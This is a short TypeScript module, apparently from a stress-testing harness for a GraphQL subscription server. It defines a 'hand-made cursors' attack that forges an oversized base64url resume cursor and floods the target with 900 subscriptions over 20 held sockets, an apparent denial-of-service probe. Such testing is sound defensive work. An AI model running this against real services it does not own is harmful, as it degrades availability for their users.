// Subscriptions that resume from long cursors of somebody's own making.

import { type Attack, holdSockets, subscribe, watchPayload } from '../attack.ts'

export const forgedCursors: Attack = {
  name: 'hand-made cursors',
  run(target) {
    const { query, variables } = watchPayload(target)
    const after = Buffer.from(JSON.stringify({ xmin: 1, xip: Array.from({ length: 9000 }, (_, id) => id) })).toString(
      'base64url',
    )
    return holdSockets(target, {
      count: 20,
      key: target.key,
      use(socket) {
        for (let id = 0; id < 45; id++) subscribe(socket, String(id), { query, variables: { ...variables, after } })
      },
    })
  },
}
